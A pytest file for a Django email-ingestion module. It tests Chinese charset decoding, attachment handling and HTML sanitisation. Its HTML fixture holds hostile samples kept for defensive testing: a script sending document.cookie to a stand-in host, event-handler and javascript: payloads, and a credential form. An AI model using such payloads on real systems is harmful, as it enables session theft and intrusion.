"""What a stored message holds: decoded Chinese text, all participants, attachments, safe HTML."""

from __future__ import annotations

import base64
from email import message_from_bytes, policy

import pytest
from django.urls import reverse

from gendan.comms.mail.imap import mailbox_fetch
from gendan.comms.mail.ingest import message_ingest
from gendan.comms.mail.parse import decode_bytes, parse_message
from gendan.comms.mail.sanitize import sanitize_html, show_remote_images
from gendan.comms.models import Attachment, Message

from .mail_support import make_mail

pytestmark = [pytest.mark.django_db, pytest.mark.mail]


def _encoded_word(text: str, charset: str) -> str:
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="


def _chinese_mail(*, subject: str, body: str, declared: str, encoding: str) -> bytes:
    """A message as Chinese mail programs write it: the subject and sender name as RFC 2047
    words in the declared charset, the body in base64."""
    head = (
        f"From: {_encoded_word('王经理', 'gb18030')} <wang@ningbo-lamps.cn>\r\n"
        "To: mia@gendan.test\r\n"
        f"Subject: {_encoded_word(subject, encoding).replace(encoding, declared, 1)}\r\n"
        "Date: Tue, 01 Dec 2026 09:30:00 +0800\r\n"
        f"Message-ID: <{declared}-{len(body)}@ningbo-lamps.cn>\r\n"
        "MIME-Version: 1.0\r\n"
        f'Content-Type: text/plain; charset="{declared}"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\n"
    )
    return head.encode() + base64.encodebytes(body.encode(encoding))


# --- Charsets ---------------------------------------------------------------------------------
def test_gbk_mail_labelled_gb2312_is_read_through_imap(mailbox, deliver):
    # 镕 and 喆 are not in GB2312; mail programs label GBK text gb2312 all the same.
    raw = _chinese_mail(
        subject="关于订单延期的通知 朱镕基路",
        body="您好，由于原材料短缺，交货期延期两周。喆",
        declared="gb2312",
        encoding="gbk",
    )
    deliver(raw)
    mailbox_fetch(mailbox=mailbox)

    message = Message.objects.get()
    assert message.subject == "关于订单延期的通知 朱镕基路"
    assert message.body_text.strip() == "您好，由于原材料短缺，交货期延期两周。喆"
    assert message.from_name == "王经理"


def test_big5_mail_with_hong_kong_characters_is_read_through_imap(mailbox, deliver):
    raw = _chinese_mail(
        subject="臺灣出貨通知",
        body="貨櫃已經出貨，嗰批貨下星期到。",
        declared="big5",
        encoding="big5hkscs",
    )
    deliver(raw)
    mailbox_fetch(mailbox=mailbox)

    message = Message.objects.get()
    assert message.subject == "臺灣出貨通知"
    assert message.body_text.strip() == "貨櫃已經出貨，嗰批貨下星期到。"


def test_gb18030_four_byte_characters_are_decoded():
    parsed = parse_message(
        _chinese_mail(
            subject="报价单 €120 𠀀",
            body="单价 €12.50，𠀀字",
            declared="gb18030",
            encoding="gb18030",
        )
    )
    assert parsed.subject == "报价单 €120 𠀀"
    assert parsed.text.strip() == "单价 €12.50，𠀀字"
    assert parsed.defects == []


def test_raw_8bit_headers_and_file_names_without_encoding_are_decoded():
    raw = (
        "From: 李小姐 <li@yiwu-toys.cn>\r\nTo: mia@gendan.test\r\nSubject: 样品已寄出\r\n"
        "Message-ID: <raw8@yiwu-toys.cn>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        '--b\r\nContent-Type: text/plain; charset="gbk"\r\n\r\n快递单号见附件\r\n'
        '--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename="快递单.pdf"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n--b--\r\n"
    ).encode("gbk")
    parsed = parse_message(raw)
    assert parsed.subject == "样品已寄出"
    assert parsed.sender is not None and parsed.sender.name == "李小姐"
    assert parsed.text.strip() == "快递单号见附件"
    assert [a.filename for a in parsed.attachments] == ["快递单.pdf"]


def test_rfc_2231_and_rfc_2047_file_names_keep_their_chinese_names():
    raw = (
        b"From: a@b.de\r\nTo: mia@gendan.test\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        b"--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
        b"--b\r\nContent-Type: application/pdf\r\n"
        b"Content-Disposition: attachment; filename*=utf-8''%E5%BD%A2%E5%BC%8F%E5%8F%91%E7%A5%A8.pdf\r\n"
        b"\r\nx\r\n"
        b'--b\r\nContent-Type: application/vnd.ms-excel; name="'
        + _encoded_word("装箱单.xls", "gb2312").encode()
        + b'"\r\n'
        b"Content-Disposition: attachment\r\n\r\ny\r\n--b--\r\n"
    )
    assert [a.filename for a in parse_message(raw).attachments] == ["形式发票.pdf", "装箱单.xls"]


def test_an_undecodable_big5_text_keeps_its_characters_and_marks_the_bad_bytes():
    text, clean = decode_bytes("貨櫃".encode("big5") + b"\xff\xfe", "big5")
    assert text.startswith("貨櫃") and "\ufffd" in text and not clean


# --- Participants --------------------------------------------------------------------------
def test_every_participant_is_kept_with_names(mailbox):
    raw = make_mail(
        sender='"Schmidt, Anna" <Anna@Schmidt-Handel.de>',
        to="Mia <mia@gendan.test>, Einkauf <einkauf@schmidt-handel.de>",
        cc="Jonas Weber <jonas@schmidt-handel.de>, qc@gendan.test",
    )
    message = message_ingest(mailbox=mailbox, raw=raw).message

    assert (message.from_name, message.from_address) == ("Schmidt, Anna", "anna@schmidt-handel.de")
    assert message.to == [
        {"name": "Mia", "address": "mia@gendan.test"},
        {"name": "Einkauf", "address": "einkauf@schmidt-handel.de"},
    ]
    assert message.cc == [
        {"name": "Jonas Weber", "address": "jonas@schmidt-handel.de"},
        {"name": "", "address": "qc@gendan.test"},
    ]
    assert message.participants[0] == "anna@schmidt-handel.de" and len(message.participants) == 5


# --- Broken and big parts ---------------------------------------------------------------------
def test_a_malformed_mime_part_does_not_stop_the_message(mailbox, deliver):
    raw = (
        b"From: anna@schmidt-handel.de\r\nTo: mia@gendan.test\r\nSubject: Broken but readable\r\n"
        b"Message-ID: <broken@schmidt-handel.de>\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n'
        b"--outer\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThe order is ready.\r\n"
        b"--outer\r\nContent-Type: text/plain; charset=x-no-such-charset\r\n"
        b"Content-Transfer-Encoding: quoted-printable\r\n\r\nsecond =E4=BD=A0 part=\r\n"
        b'--outer\r\nContent-Type: multipart/alternative; boundary="never-closed"\r\n\r\n'
        b"--never-closed\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        b"!!!% this is not base64 %!!!\r\n"
        b'--outer\r\nContent-Type: application/pdf; name="spec.pdf"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n"
        b"--outer--\r\n"
    )
    deliver(raw)
    result = mailbox_fetch(mailbox=mailbox)

    assert result.ok and result.stored == 1
    message = Message.objects.get()
    assert message.subject == "Broken but readable"
    assert "The order is ready." in message.body_text
    assert "second 你 part" in message.body_text  # an unknown charset falls back to UTF-8
    assert list(message.attachments.values_list("original_name", flat=True)) == ["spec.pdf"]


def test_an_attachment_over_the_limit_is_skipped_with_its_name_and_size_kept(mailbox, settings):
    settings.MAIL_ATTACHMENT_MAX_MB = 1
    big = b"\x00" * (1024 * 1024 + 10)
    raw = make_mail(
        subject="Photos of the samples",
        attachments=[
            ("样品照片.zip", big, "application/zip"),
            ("spec.pdf", b"%PDF-1.4", "application/pdf"),
        ],
    )
    message = message_ingest(mailbox=mailbox, raw=raw).message

    skipped, kept = message.attachments.order_by("id")
    assert (skipped.original_name, skipped.size, skipped.is_skipped) == (
        "样品照片.zip",
        len(big),
        True,
    )
    assert not skipped.file
    assert (kept.original_name, kept.is_skipped) == ("spec.pdf", False)
    assert kept.file.read() == b"%PDF-1.4"
    assert "样品照片" not in kept.file.name  # stored under a random name
    # The raw message is kept without the oversized part: its headers only.
    assert message.raw.size < 10_000 and b"Photos of the samples" in message.raw.read()


# --- HTML -------------------------------------------------------------------------------------
HOSTILE_HTML = """<html><head><style>body{background:url(http://tracker.test/s.gif)}</style>
<script>document.location='http://evil.test/?c='+document.cookie</script></head>
<body onload="steal()"><p style="color:#c00;background-image:url(http://tracker.test/p.gif)">Dear Mia,</p>
<img src="http://tracker.test/open.gif?id=42" onerror="alert(1)" alt="logo">
<img src="cid:logo@schmidt">
<a href="javascript:alert(document.domain)">click</a>
<a href="https://schmidt-handel.de/catalogue.pdf" onclick="x()">Catalogue</a>
<iframe src="http://evil.test/"></iframe><form action="http://evil.test/"><input name=pw></form>
<svg onload="alert(2)"></svg></body></html>"""


def test_html_loses_scripts_event_handlers_and_javascript_links_and_holds_remote_images_back(
    mailbox,
):
    raw = make_mail(subject="Catalogue", body="", html=HOSTILE_HTML)
    message = message_ingest(mailbox=mailbox, raw=raw).message
    html = message.body_html.lower()

    for bad in (
        "<script",
        "onload",
        "onerror",
        "onclick",
        "javascript:",
        "<iframe",
        "<form",
        "<svg",
        "url(",
    ):
        assert bad not in html, bad
    assert "document.cookie" not in html
    assert 'data-remote-src="http://tracker.test/open.gif?id=42"' in message.body_html
    assert ' src="http://tracker.test' not in message.body_html  # held back
    assert message.has_remote_images
    assert 'href="https://schmidt-handel.de/catalogue.pdf"' in message.body_html
    assert 'rel="noopener noreferrer nofollow"' in message.body_html
    assert "Dear Mia," in message.body_text  # text from the HTML where there is no text part

    shown = show_remote_images(message.body_html)
    assert 'src="http://tracker.test/open.gif?id=42"' in shown and "onerror" not in shown


def test_inline_cid_images_are_served_from_the_stored_attachment(mailbox):
    mail = message_from_bytes(
        make_mail(subject="Logo", html='<p>Hi</p><img src="cid:logo@schmidt" alt="Logo">'),
        policy=policy.default,
    )
    html_part = mail.get_body(("html",))
    assert html_part is not None
    html_part.add_related(
        b"\x89PNG\r\n\x1a\nfake", maintype="image", subtype="png", cid="<logo@schmidt>"
    )
    message = message_ingest(mailbox=mailbox, raw=mail.as_bytes()).message

    image = Attachment.objects.get(message=message, content_id="logo@schmidt")
    assert image.is_inline
    assert f'src="{reverse("comms:attachment", args=[image.pk])}"' in message.body_html
    assert not message.has_remote_images


def test_sanitising_keeps_layout_styles_but_drops_anything_that_loads():
    result = sanitize_html(
        '<table width="600" bgcolor="#fff"><tr><td style="padding:8px;font-size:14px;'
        'background:url(http://t.test/x.gif);behavior:url(x.htc)">Price list</td></tr></table>'
    )
    assert 'style="padding:8px;font-size:14px"' in result.html
    assert 'width="600"' in result.html and "url(" not in result.html
